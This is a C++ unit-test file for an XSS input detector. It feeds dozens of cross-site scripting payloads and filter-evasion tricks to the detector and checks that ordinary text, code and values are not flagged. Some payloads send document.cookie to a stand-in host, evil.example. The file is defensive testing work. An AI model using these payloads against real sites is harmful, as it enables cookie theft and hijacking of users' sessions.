#include <string>

#include <gtest/gtest.h>

#include "core/detect/input/input_detector.hpp"

namespace vigil::detect::input {
namespace {

bool fires(std::string_view value, Hit* out = nullptr, Form form = Form::kRaw) {
  Candidate c{value, features_of(value), form, 0, Source::kQuery, "q"};
  Hit hit;
  bool r = detect_xss(c, &hit);
  if (out != nullptr) *out = hit;
  return r;
}

TEST(XssInput, ElementsThatRun) {
  Hit hit;
  EXPECT_TRUE(fires("<script>alert(1)</script>", &hit));
  EXPECT_NE(hit.reason.find("script"), std::string::npos) << hit.reason;
  EXPECT_FALSE(hit.evidence.empty());
  EXPECT_TRUE(fires("<img src=x onerror=alert(1)>", &hit));
  EXPECT_NE(hit.reason.find("onerror"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("<svg/onload=alert(1)>"));
  EXPECT_TRUE(fires("<ScRiPt src=//evil.example/x.js></ScRiPt>"));
  EXPECT_TRUE(fires("<iframe src=\"javascript:alert(1)\"></iframe>"));
  EXPECT_TRUE(fires("<a href=\"javascript:alert(document.cookie)\">x</a>"));
  EXPECT_TRUE(fires("<body onload=alert(1)>"));
  EXPECT_TRUE(fires("<details open ontoggle=alert(1)>"));
  EXPECT_TRUE(fires("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"));
  EXPECT_TRUE(fires("<base href=\"//evil.example/\">"));
  EXPECT_TRUE(fires("<div style=\"width:expression(alert(1))\">"));
  EXPECT_TRUE(fires("<img src=x onerror=alert(1)"));  // unterminated tag
}

TEST(XssInput, AttributeBreakOuts) {
  Hit hit;
  EXPECT_TRUE(fires("\" onmouseover=\"alert(1)", &hit));
  EXPECT_NE(hit.reason.find("double-quoted"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("' onfocus='alert(1)' autofocus='"));
  EXPECT_TRUE(fires("\"><script>alert(1)</script>"));
  EXPECT_TRUE(fires("x onmouseover=alert(1)"));  // an unquoted attribute value
}

TEST(XssInput, ScriptUrlsAndJsStrings) {
  EXPECT_TRUE(fires("javascript:alert(1)"));
  EXPECT_TRUE(fires("JaVaScRiPt:alert(document.domain)"));
  EXPECT_TRUE(fires("';alert(1);//"));
  EXPECT_TRUE(fires("\";alert(String.fromCharCode(88,83,83));//"));
  EXPECT_TRUE(fires("'-alert(1)-'"));
}

TEST(XssInput, BareScriptCode) {
  // Code for an event handler or eval: it must reach something only browser script has.
  Hit hit;
  EXPECT_TRUE(fires("alert(document.cookie)", &hit));
  EXPECT_NE(hit.reason.find("alert"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("top[\"al\"+\"ert\"](1)"));
  EXPECT_TRUE(fires("document.location='//evil.example/?c='+document.cookie"));
  EXPECT_TRUE(fires("eval(atob('YWxlcnQoMSk='))"));
  EXPECT_TRUE(fires("window.onerror=eval;throw'=alert\\x281\\x29'"));
  // The same generic names in other languages' code.
  EXPECT_FALSE(fires("print('hello')"));
  EXPECT_FALSE(fires("self.name = name"));
  EXPECT_FALSE(fires("self.assertEqual(a, b)"));
  EXPECT_FALSE(fires("sys.stdout.write('x')"));
  EXPECT_FALSE(fires("location = 'Paris'"));
  EXPECT_FALSE(fires("window = Tk()"));
  EXPECT_FALSE(fires("img = Image.open(path)"));
  EXPECT_FALSE(fires("s = String(x)"));
}

TEST(XssInput, HiddenMarkup) {
  EXPECT_TRUE(fires("<!--<img src=x onerror=alert(1)>-->"));
  EXPECT_TRUE(fires("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"));
  EXPECT_TRUE(fires("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"));
}

TEST(XssInput, FilterAndCharsetEvasions) {
  Hit hit;
  // A filter that removes <script> (or "script") once leaves a script element.
  EXPECT_TRUE(fires("<scr<script>ipt>alert(1)</scr<script>ipt>", &hit));
  EXPECT_NE(hit.reason.find("filter"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("<scrscriptipt>alert(1)</scrscriptipt>"));
  // UTF-7, which old browsers sniffed.
  EXPECT_TRUE(fires("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", &hit));
  EXPECT_NE(hit.reason.find("UTF-7"), std::string::npos) << hit.reason;
  // An empty attribute value before a handler, as old parsers read it.
  EXPECT_TRUE(fires("<IMG SRC= onmouseover=\"alert('x')\">"));
  // Code after the closer of the page's comment or array.
  EXPECT_TRUE(fires("];a=eval;b=alert;a(b(1));//"));
  EXPECT_TRUE(fires("*/alert(document.domain)/*"));
  EXPECT_TRUE(fires("navigator.sendBeacon('//evil.example',document.cookie)"));
  EXPECT_TRUE(fires("window.open('//evil.example')"));
  EXPECT_FALSE(fires("Describe the script tag; scripts run in order"));
  EXPECT_FALSE(fires("C++ and C# are languages; 1+1=2"));
  EXPECT_FALSE(fires("<IMG SRC= onmouseover=\"hello world\">"));
  EXPECT_FALSE(fires("window.show()"));
}

TEST(XssInput, ProseAndComparisonsStayClean) {
  EXPECT_FALSE(fires("a < b"));
  EXPECT_FALSE(fires("if a<b and c>d then"));
  EXPECT_FALSE(fires("I <3 you"));
  EXPECT_FALSE(fires("x = 5; y = 6"));
  EXPECT_FALSE(fires("O'Brien said: it's fine"));
  EXPECT_FALSE(fires("It's a \"nice\" day, isn't it?"));
  EXPECT_FALSE(fires("Note: see the FAQ (section 2)"));
  EXPECT_FALSE(fires("Rock 'n' roll = life"));
  EXPECT_FALSE(fires("JavaScript: The Good Parts"));
  EXPECT_FALSE(fires("The onload event fires when the page is loaded"));
  EXPECT_FALSE(fires("price >= 10 && price <= 20"));
}

TEST(XssInput, HtmlIshProseStaysClean) {
  EXPECT_FALSE(fires("Use <b>bold</b> and <i>italic</i>"));
  EXPECT_FALSE(fires("line one<br>line two"));
  EXPECT_FALSE(fires("see <a href=\"/docs/\">the docs</a>"));
  EXPECT_FALSE(fires("Usage: cmd <package> [options]"));
  EXPECT_FALSE(fires("<email@example.com>"));
  EXPECT_FALSE(fires("From: Tom <tom@example.com>"));
  EXPECT_FALSE(fires("<p>Hello, world</p>"));
}

TEST(XssInput, CodeSnippetsStayClean) {
  EXPECT_FALSE(fires("std::vector<int> v = {1, 2};"));
  EXPECT_FALSE(fires("if (x < 10) { y = f(x); }"));
  EXPECT_FALSE(fires("printf(\"%d\\n\", x);"));
  EXPECT_FALSE(fires("SELECT * FROM t WHERE a = 'b'"));
  EXPECT_FALSE(fires("Map<String, List<Integer>> m = new HashMap<>();"));
}

TEST(XssInput, EveryDayValuesStayClean) {
  EXPECT_FALSE(fires("bob@example.com"));
  EXPECT_FALSE(fires("https://example.com/a?b=c&d=e"));
  EXPECT_FALSE(fires("mailto:bob@example.com"));
  EXPECT_FALSE(fires("12:30"));
  EXPECT_FALSE(fires("key=value"));
  EXPECT_FALSE(fires("AT&T"));
}

TEST(XssInput, LongValuesStayLinear) {
  std::string v;
  while (v.size() < (1u << 20)) v += "<a b='\"";
  fires(v);
  std::string w(1 << 20, '<');
  fires(w);
  std::string x;
  while (x.size() < (1u << 20)) x += "';(";
  fires(x);
}

}  // namespace
}  // namespace vigil::detect::input
